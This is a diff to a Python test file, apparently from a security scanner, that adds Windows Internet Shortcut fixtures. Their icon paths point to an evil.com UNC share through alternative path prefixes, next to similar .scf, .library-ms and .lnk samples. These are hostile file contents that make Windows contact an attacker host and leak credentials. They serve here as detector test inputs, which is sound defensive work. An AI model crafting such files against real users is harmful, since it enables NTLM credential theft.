@@ -141,6 +141,8 @@ def test_threat_61_an_address_that_an_rtf_document_spells_in_digits_is_a_link() 
     ("name", "content"),
     [
         ("a.url", b"[InternetShortcut]\r\nURL=about:blank\r\nIconFile=\\\\evil.com\\x.ico\r\n"),
+        ("a.url", b"[InternetShortcut]\r\nURL=about:blank\r\nIconFile=\\\\?\\UNC\\evil.com\\x.ico\r\n"),
+        ("a.url", b"[InternetShortcut]\r\nURL=about:blank\r\nIconFile=\\\\.\\unc\\evil.com\\x.ico\r\n"),
         ("a.scf", b"[Shell]\r\nIconFile=\\\\evil.com@80\\x\\y.ico\r\n"),
         ("a.library-ms", b"<?xml version='1.0'?><simpleLocation><url>\\\\evil.com\\share</url></simpleLocation>"),
         ("a.lnk", bytes.fromhex("4c0000000114020000000000c000000000000046") + "\\\\evil.com\\x".encode("utf-16-le")),
